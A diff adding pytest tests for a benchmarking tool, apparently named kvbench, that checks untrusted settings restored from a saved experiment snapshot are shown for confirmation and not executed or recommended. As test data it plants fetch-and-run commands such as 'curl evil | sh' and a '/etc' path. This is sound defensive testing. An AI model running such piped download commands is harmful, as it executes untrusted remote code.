@@ -117,6 +117,47 @@ def test_nothing_is_started_before_it_is_confirmed(kvbench: Kvbench, tmp_path: P
     assert Path("pwned").exists()
 
 
+def test_all_that_a_snapshot_could_name_is_shown(tmp_path: Path) -> None:
+    make_group(tmp_path, per_bin=4, bins=1)
+    more = {
+        "executor": {
+            "name": "parsl",
+            "config": "reports/g/config.py",
+            "worker_init": "curl x | sh",
+        },
+        "task_options": {"longbench": {"path": "/etc"}},
+        "tokenizer": "hf:theirs/own",
+        "after": "other",
+    }
+    engine = {"endpoints": {"none": {"base_url": "http://x/v1"}}, "extra_body": {"user": "me"}}
+    with sqlite3.connect(tmp_path / "g" / DATABASE) as db:
+        (text,) = db.execute("SELECT snapshot FROM experiments").fetchone()
+        snapshot = {**json.loads(text), **more, "engine": engine}
+        snapshot["kv"]["policies"] = ["theirs.py:Policy"]
+        db.execute("UPDATE experiments SET snapshot=?", (json.dumps(snapshot),))
+    assert set(claims(tmp_path / "g")) >= {
+        'executor.config: "reports/g/config.py"',
+        'executor.worker_init: "curl x | sh"',
+        'task_options.longbench.path: "/etc"',
+        'tokenizer: "hf:theirs/own"',
+        'after: "other"',
+        'engine.endpoints.none.base_url: "http://x/v1"',
+        'engine.extra_body.user: "me"',
+        'kv.policies: ["theirs.py:Policy"]',
+    }
+
+
+def test_what_began_a_restored_group_is_not_recommended(kvbench: Kvbench, tmp_path: Path) -> None:
+    make_group(tmp_path / "reports", per_bin=4, bins=1)
+    with sqlite3.connect(f"reports/g/{DATABASE}") as db:
+        db.execute("UPDATE experiments SET command='curl evil | sh'")
+    mark(Path("reports/g"))
+    done = kvbench("wait", "g", "--every", "0.01")
+    assert done.exit_code == 10
+    assert "evil" not in done.output
+    assert "kvbench trust g" in done.output
+
+
 def test_no_address_gets_a_request_or_a_key_before_it_is_confirmed(
     kvbench: Kvbench, mock: MockServer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
